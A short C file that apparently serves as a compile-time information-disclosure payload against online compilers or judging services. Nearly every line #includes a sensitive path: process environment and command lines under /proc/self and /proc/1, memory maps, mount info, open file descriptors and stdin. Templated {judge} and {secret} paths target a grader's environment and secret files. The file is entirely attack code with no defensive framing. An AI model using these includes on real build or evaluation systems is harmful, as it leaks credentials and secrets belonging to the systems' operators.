// Includes what the kernel says of the compiler itself, and of whoever started it.
#include "/proc/self/environ"
#include "/proc/self/cmdline"
#include "/proc/self/maps"
#include "/proc/self/mountinfo"
#include "/proc/1/environ"
#include "/proc/1/cmdline"
#include "/proc/{judge}/environ"
#include "/proc/self/root{secret}"
#include "/proc/self/cwd/../{secret}"
#include "/dev/fd/3"
#include "/dev/stdin"

int main() {}
